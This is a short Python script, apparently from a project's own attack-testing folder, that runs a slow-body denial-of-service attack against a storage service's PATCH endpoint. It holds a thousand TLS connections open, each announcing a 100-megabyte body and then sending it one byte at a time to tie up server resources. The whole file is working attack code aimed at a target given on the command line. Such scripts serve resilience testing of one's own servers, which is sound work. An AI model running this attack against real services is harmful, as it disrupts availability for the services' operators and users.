"""Requests that will be refused, and whose bodies are announced as long and come a byte at a time."""

from __future__ import annotations

import socket

from misc.attack.target import Crowd, Target, again_and_again, from_command_line

CONNECTIONS = 1000
BYTE_S = 25.0
REQUEST = (
    b"PATCH /storage/v1/immutable/aaaaaaaaaaaaaaaaaaaaaaaaaa/0 HTTP/1.1\r\nHost: x\r\n"
    b"Content-Length: 100000000\r\nContent-Range: bytes 0-99999999/*\r\n\r\n"
)


def attack(target: Target) -> None:
    """Keep as many connections as there may be."""

    def make(number: int) -> socket.socket:
        connection = target.connect_tls()
        connection.sendall(REQUEST)
        return connection

    crowd = Crowd(make, CONNECTIONS)
    for turn in again_and_again(target, 0.01):
        crowd.fill()
        crowd.say(b"x", BYTE_S)
        if not turn % 100:
            crowd.forget_cut()


if __name__ == "__main__":
    attack(from_command_line(__doc__))
